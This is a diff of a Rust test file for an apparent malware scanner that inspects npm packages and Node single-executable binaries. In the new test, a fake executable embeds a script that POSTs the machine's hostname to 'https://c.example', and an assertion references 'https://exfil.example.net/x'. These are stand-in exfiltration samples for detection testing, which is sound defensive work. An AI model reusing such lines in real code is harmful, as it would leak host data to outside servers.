@@ -207,9 +207,18 @@ fn diff_reports_embedded_changes_and_their_signals() {
     assert_eq!(url.module, "package/claude!/$bunfs/root/chunk.js");
     // Evidence in the module's own source: the literal, at its 1-based column.
     let col = CHUNK_V2.windows(7).position(|w| w == b"'https:").unwrap() + 1;
-    let col = CHUNK_V2[col..].windows(7).position(|w| w == b"'https:").unwrap() + col + 1;
+    let col = CHUNK_V2[col..]
+        .windows(7)
+        .position(|w| w == b"'https:")
+        .unwrap()
+        + col
+        + 1;
     assert_eq!((url.behaviour.line, url.behaviour.column), (1, col as u32));
-    assert!(url.behaviour.snippet.starts_with("'https://exfil.example.net/x'"));
+    assert!(
+        url.behaviour
+            .snippet
+            .starts_with("'https://exfil.example.net/x'")
+    );
     assert!(
         r.behaviours
             .iter()
@@ -390,5 +399,56 @@ fn embedded_zst_resource_is_decompressed_and_analysed() {
         bad.parse_error
             .as_deref()
             .is_some_and(|e| e.contains("zstd"))
+    );
+}
+
+/// A Node single-executable application: a fake `node` with a `NODE_SEA_BLOB` note holding the
+/// blob (`src/node_sea.cc` layout: magic, flags, code path, code, assets).
+fn node_sea(code: &[u8]) -> Vec<u8> {
+    let mut blob = 0x0143_da20u32.to_le_bytes().to_vec();
+    blob.extend_from_slice(&8u32.to_le_bytes()); // kIncludeAssets
+    for part in [&b"/src/dist/index.js"[..], code] {
+        blob.extend_from_slice(&(part.len() as u64).to_le_bytes());
+        blob.extend_from_slice(part);
+    }
+    blob.extend_from_slice(&1u64.to_le_bytes());
+    for part in [&b"sdk/tool.mjs"[..], b"export default 1"] {
+        blob.extend_from_slice(&(part.len() as u64).to_le_bytes());
+        blob.extend_from_slice(part);
+    }
+    let mut e = b"\x7fELF\x02\x01\x01\0".to_vec();
+    e.resize(80_000, 0x90);
+    e.extend_from_slice(&14u32.to_le_bytes());
+    e.extend_from_slice(&(blob.len() as u32).to_le_bytes());
+    e.extend_from_slice(&0u32.to_le_bytes());
+    e.extend_from_slice(b"NODE_SEA_BLOB\0\0\0");
+    e.extend_from_slice(&blob);
+    e.extend_from_slice(&[0u8; 64]);
+    e
+}
+
+#[test]
+fn node_sea_main_script_and_assets_are_embedded_modules() {
+    let exe = node_sea(b"const os = require('os'); fetch('https://c.example', {method:'POST', body: os.hostname()});");
+    let m = inspect(&tgz(&[("package/copilot", &exe)]), true);
+    let main = &m.entries["package/copilot!/sea/index.js"];
+    assert_eq!(main.kind, EntryKind::Embedded);
+    assert!(
+        main.behaviours
+            .iter()
+            .any(|b| b.kind == BehaviourKind::Exfiltration),
+        "{:?}",
+        main.behaviours
+    );
+    assert!(
+        m.entries
+            .contains_key("package/copilot!/sea/assets/sdk/tool.mjs")
+    );
+    // The binary itself is the runtime: no URL strings of its own are listed.
+    let e = &m.entries["package/copilot"];
+    assert!(
+        e.behaviours
+            .iter()
+            .any(|b| b.kind == BehaviourKind::Runtime)
     );
 }
